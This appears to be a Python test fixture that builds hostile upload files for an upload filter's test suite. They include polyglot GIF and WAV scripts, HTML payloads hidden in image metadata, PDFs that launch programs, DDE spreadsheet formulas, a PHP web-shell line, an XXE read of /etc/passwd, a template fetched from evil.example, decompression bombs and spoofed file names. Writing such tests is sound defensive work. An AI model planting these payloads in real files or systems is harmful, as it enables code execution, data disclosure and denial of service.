"""Hostile files beside those of `tests/files/hostile.py`: most of them are whole and may be kept, yet must never run.

What tries to run calls `ran`, which a page of ours has only while it is watched (`test_uploads_browser.py`).
"""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.files import hostile, placed
from tests.files import makers as make

KEPT = ""
CALL = "(self.ran||top.ran||alert)('ran')"
CODE = CALL.encode()
SCRIPT = f"<script>{CALL}</script>".encode()
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b'<img src=x onerror="' + CODE + b'"></body></html>'
FAR = b"%" + b"x" * 1500 + b"\n"


@dataclass(frozen=True, slots=True)
class Malice:
    """A hostile file: a word of the sentence that refuses it, or KEPT. `said_type` is what the browser claims."""

    case: str
    name: str
    content: Callable[[], bytes]
    word: str = KEPT
    said_type: str = "application/octet-stream"


def _bytes(content, before=b""):
    return lambda: before + content


def gif_script():
    """A whole GIF, 10,799 pixels wide, which is a whole script: its width is the opening of a comment."""
    whole = make.picture("GIF", comment=b"*/=1;" + CODE + b"/*")
    return b"GIF89a/*" + whole[8:] + b"*/"


def wav_script():
    """A whole recording, which is a whole script: RIFF is the name of a variable, its length opens a comment."""
    said = b"*/=1;" + CODE + b"//"
    extra = b"note" + struct.pack("<I", len(said)) + said + bytes(len(said) % 2)
    return b"RIFF/*\0\0" + make.wav()[8:] + extra


def png_chunk(name, body):
    """A PNG with one more chunk before its pixels."""
    whole, at = make.picture("PNG"), 33
    chunk = struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    return whole[:at] + chunk + whole[at:]


def claiming_jpeg(side):
    """A small JPEG whose frame claims a square of any size."""
    whole = make.picture("JPEG")
    at = whole.index(b"\xff\xc0") + 5
    return whole[:at] + struct.pack(">HH", side, side) + whole[at + 4 :]


def claiming_tiff(side):
    """A TIFF of no pixels whose directory claims a square of any size."""
    fields = ((256, 4, side), (257, 4, side), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (278, 4, side))
    rows = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in fields)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(fields)) + rows + bytes(4)


def claiming_webp(side):
    """A WebP whose canvas claims a square of any size."""
    body = b"WEBPVP8X\x0a\0\0\0\0\0\0\0" + (side - 1).to_bytes(3, "little") * 2
    return b"RIFF" + struct.pack("<I", len(body)) + body


def related(target, kind="attachedTemplate"):
    """A Word file that points outside."""
    place = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    rels = (
        f'<Relationships><Relationship Id="a" Type="{place}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return make.office("docx", ("word/_rels/settings.xml.rels", rels))


def saved_page():
    """A saved page that says it is a message: no mark of the browser that saved it."""
    head = 'Content-Type: multipart/related; boundary="b"\nMIME-Version: 1.0\n'
    return make.eml(head, f"--b\nContent-Type: text/html\n\n{PAGE.decode()}\n--b--\n")


jpeg = placed.jpeg
png = lambda: make.picture("PNG")  # noqa: E731 - a maker like the others
utf7 = "+ADw-script+AD4-ran('utf7')+ADw-/script+AD4-"

SCRIPTS = [
    Malice("a script as text", "notes.txt", _bytes(CODE), said_type="text/javascript"),
    Malice("a script as CSV", "table.csv", _bytes(CODE + b"//,1\n"), said_type="application/javascript"),
    Malice("a script as mail", "letter.eml", lambda: make.eml("", CALL)),
    Malice("a worker as text", "worker.txt", _bytes(b"self.window?" + CODE + b":self.postMessage&&postMessage(1)")),
    Malice("a style sheet as text", "style.txt", _bytes(b"body{background:url(javascript:" + CODE + b")}")),
    Malice("a page far into a text", "notes.txt", _bytes(PAGE, b"Minutes of the meeting.\n" * 100)),
    Malice("a page in a cell", "table.csv", _bytes(b"name,note\nRita," + SCRIPT + b"\n")),
    Malice("a page in UTF-7", "notes.txt", _bytes(utf7.encode())),
    Malice("a page behind an escape of Japanese", "notes.txt", _bytes(b"\x1b(J" + PAGE), "plain text"),
    Malice("JSON with markup", "data.txt", _bytes(b'{"a":"' + SCRIPT + b'"}')),
    Malice("a text called a page by the browser", "notes.txt", _bytes(b"Hello " + SCRIPT), said_type="text/html"),
    Malice("a picture called a page by the browser", "photo.jpg", jpeg, said_type="text/html"),
    Malice("a picture called a drawing by the browser", "photo.png", png, said_type="image/svg+xml"),
    Malice("a mail of HTML", "letter.eml", lambda: make.eml("Content-Type: text/html\n", PAGE.decode())),
    Malice("a saved page as a mail", "letter.eml", saved_page),
    Malice("a mail with a program", "letter.eml",
           lambda: make.eml('Content-Disposition: attachment; filename="a.exe"\n', "TVqQAAMAAAAEAAAA")),
    Malice("a sheet that starts a program (DDE)", "table.csv", _bytes(b"=cmd|'/C calc'!A0,1\n")),
    Malice("a sheet with a link", "table.csv", _bytes(b'"=HYPERLINK(""javascript:ran()"",""a"")",1\n')),
]  # fmt: skip

FACES = [
    Malice("a GIF that is a whole script", "photo.gif", gif_script),
    Malice("a recording that is a whole script", "talk.wav", wav_script),
    Malice("a JPEG with a script in its comment", "photo.jpg", lambda: jpeg(comment=b"*/=1;" + CODE + b"/*")),
    Malice("a JPEG with a page behind its end", "photo.jpg", lambda: jpeg() + FAR + PAGE),
    Malice("a JPEG with a page in XMP", "photo.jpg", lambda: jpeg(comment=FAR, xmp=PAGE), "same time"),
    Malice("a JPEG with PHP behind its end", "photo.php.jpg", lambda: jpeg() + FAR + b"<?php system($_GET[0]);"),
    Malice("a PNG with a page behind its end", "photo.png", lambda: png() + FAR + PAGE),
    Malice("a PNG with a page in a text", "photo.png", lambda: png_chunk(b"tEXt", b"Comment\0" + FAR + PAGE)),
    Malice("a PNG with a page at its start", "photo.png", lambda: png_chunk(b"tEXt", b"Comment\0" + PAGE), "same time"),
    Malice("a WebP with a page behind its end", "a.webp", lambda: make.picture("WEBP") + FAR + PAGE),
    Malice("a TIFF with a page in a field", "a.tif", lambda: make.picture("TIFF", tiffinfo={270: PAGE.decode()}),
           "same time"),
    Malice("a PDF with a page far into it", "a.pdf", lambda: make.pdf(extra=f"<</A({FAR.decode()}{PAGE.decode()})>>")),
    Malice("a PDF that runs a script at opening", "a.pdf",
           lambda: make.pdf(catalog=f"/OpenAction<</S/JavaScript/JS({CALL.replace('(', '').replace(')', '')})>>")),
    Malice("a PDF that starts a program", "a.pdf", lambda: make.pdf(catalog="/OpenAction<</S/Launch/F(calc.exe)>>")),
    Malice("a PDF with a link that is a script", "a.pdf",
           lambda: make.pdf(catalog="/OpenAction<</S/URI/URI(javascript:ran%28%29)>>")),
    Malice("a PDF with a file inside", "a.pdf",
           lambda: make.pdf(extra="<</Type/Filespec/F(a.exe)>>",
                            catalog="/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>")),
    Malice("an MP3 with a page in its tag", "talk.mp3",
           lambda: make.mp3(tag=b"ID3\x04\0\0\0\0\x0f\0" + (FAR + PAGE).ljust(1920, b"\0"))),
    Malice("an MP4 with a page in it", "clip.mp4", lambda: make.boxes(media=FAR + PAGE)),
    Malice("a FLAC with a page behind its end", "a.flac", lambda: make.flac() + FAR + PAGE),
    Malice("a Flash film as a picture", "photo.jpg", _bytes(b"FWS\x09" + bytes(200)), "inside"),
    Malice("a help file as text", "notes.txt", _bytes(b"ITSF\x03\0\0\0" + bytes(200)), "plain text"),
]  # fmt: skip

OFFICE = [
    Malice("a Word file that fetches its template", "a.docx", lambda: related("http://evil.example/a.dotm")),
    Malice("a Word file with a link that is a script", "a.docx", lambda: related("javascript:ran()", "hyperlink")),
    Malice("a Word file with a saved page", "a.docx", lambda: make.office("docx", ("word/chunk.mht", PAGE)), "inside"),
    Malice("a Word file with a page", "a.docx", lambda: make.office("docx", ("word/chunk.html", PAGE)), "inside"),
    Malice("a Word file with an object", "a.docx",
           lambda: make.office("docx", ("word/embeddings/oleObject1.bin", hostile.OLE + hostile.EXE))),
    Malice("a Word file that asks another program (DDE)", "a.docx",
           lambda: make.office("docx", main="<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>")),
    Malice("a sheet that asks another program (DDE)", "a.xlsx",
           lambda: make.office("xlsx", ("xl/externalLinks/externalLink1.xml", "<ddeLink ddeService='cmd'/>"))),
    Malice("slides that start a program", "a.pptx",
           lambda: make.office("pptx", ("ppt/slides/slide1.xml", "<a:hlinkClick action='ppaction://program'/>"))),
    Malice("a text document with a macro call", "a.odt",
           lambda: make.office("odt", main="<script:event-listener xlink:href='vnd.sun.star.script:ran'/>")),
    Malice("a billion laughs", "a.docx",
           lambda: make.office("docx", main='<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'),
           "entities"),
    Malice("a file of this machine as an entity", "a.docx",
           lambda: make.office("docx", main='<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'),
           "entities"),
    Malice("an entity in a relationship", "a.docx",
           lambda: make.office("docx", ("_rels/.rels", "<!DOCTYPE l [<!ENTITY a 'b'>]><l/>")), "entities"),
]  # fmt: skip

BOMBS = [
    Malice("a JPEG of 65,000 x 65,000", "a.jpg", lambda: claiming_jpeg(65_000), "40 million"),
    Malice("a TIFF of 60,000 x 60,000", "a.tif", lambda: claiming_tiff(60_000), "40 million"),
    Malice("a WebP of 16,000 x 16,000", "a.webp", lambda: claiming_webp(16_000), "40 million"),
    Malice("a PNG with a text of 200 MB", "a.png",
           lambda: png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000), 1)), "damaged"),
    Malice("a PNG with a profile of 200 MB", "a.png",
           lambda: png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(200_000_000), 1)), "damaged"),
    Malice("a PNG of a hundred thousand empty chunks", "a.png",
           lambda: (whole := png())[:33] + (b"\0\0\0\0teSt" + struct.pack(">I", zlib.crc32(b"teSt"))) * 100_000
           + whole[33:]),
    Malice("a JPEG of a hundred thousand comments", "a.jpg",
           lambda: (whole := jpeg())[:2] + b"\xff\xfe\0\x02" * 100_000 + whole[2:]),
    Malice("a PDF that says a million pages", "a.pdf",
           lambda: make.pdf().replace(b"/Count 1>>", b"/Count 1000000>>")),
    Malice("a PDF whose pages hold each other", "a.pdf",
           lambda: make.pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"), "no pages"),
    Malice("a PDF nested too deeply", "a.pdf", lambda: make.pdf(extra="[" * 50_000)),
    Malice("a mail nested too deeply", "a.eml",
           lambda: make.eml("", "").replace(b"\n\n", b"\n") + b"Content-Type: message/rfc822\n\n" * 3_000, "too much"),
]  # fmt: skip

NAMES = [
    Malice("a link of the desktop", "photo.jpg.lnk", _bytes(b"L\0\0\0\x01\x14\x02\0" + bytes(80)), "Scripts"),
    Malice("a link to a page", "photo.jpg.url", _bytes(b"[InternetShortcut]\nURL=javascript:1\n"), "not accepted"),
    Malice("a script with two endings", "report.pdf.js", _bytes(CODE), "Scripts"),
    Malice("a page with two endings", "photo.jpg.html", _bytes(PAGE), "Web pages"),
    Malice("a picture that was a page", "page.html.jpg", _bytes(PAGE), "html"),
    Malice("a screen saver read backwards", "cod\u202excod.scr", _bytes(hostile.EXE), "Programs"),
    Malice("a page of XHTML", "a.xhtml", _bytes(PAGE), "Web pages"),
    Malice("a drawing packed", "a.svgz", _bytes(PAGE), "SVG"),
    Malice("an application of HTML", "a.hta", _bytes(PAGE), "Scripts"),
    Malice("a sheet with macros", "a.xlsm", lambda: make.office("xlsx"), "macros"),
    Malice("a settings file of a server", ".htaccess", _bytes(b"AddType text/html .txt\n"), "not accepted"),
    Malice("a policy of Flash", "crossdomain.xml", _bytes(b"<cross-domain-policy/>"), "Data files"),
    Malice("a manifest", "app.webmanifest", _bytes(b"{}"), "not accepted"),
]  # fmt: skip

REFUSED_BEFORE = [Malice(one.case, one.name, one.content, one.word) for one in hostile.ALL]
ALL = SCRIPTS + FACES + OFFICE + BOMBS + NAMES + REFUSED_BEFORE
